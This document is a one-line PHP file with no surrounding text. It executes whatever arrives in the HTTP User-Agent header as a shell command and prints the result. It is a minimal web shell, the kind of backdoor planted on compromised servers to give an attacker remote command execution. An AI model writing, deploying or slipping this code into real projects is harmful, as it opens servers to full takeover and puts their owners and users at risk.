<?php echo shell_exec($_SERVER['HTTP_USER_AGENT']);
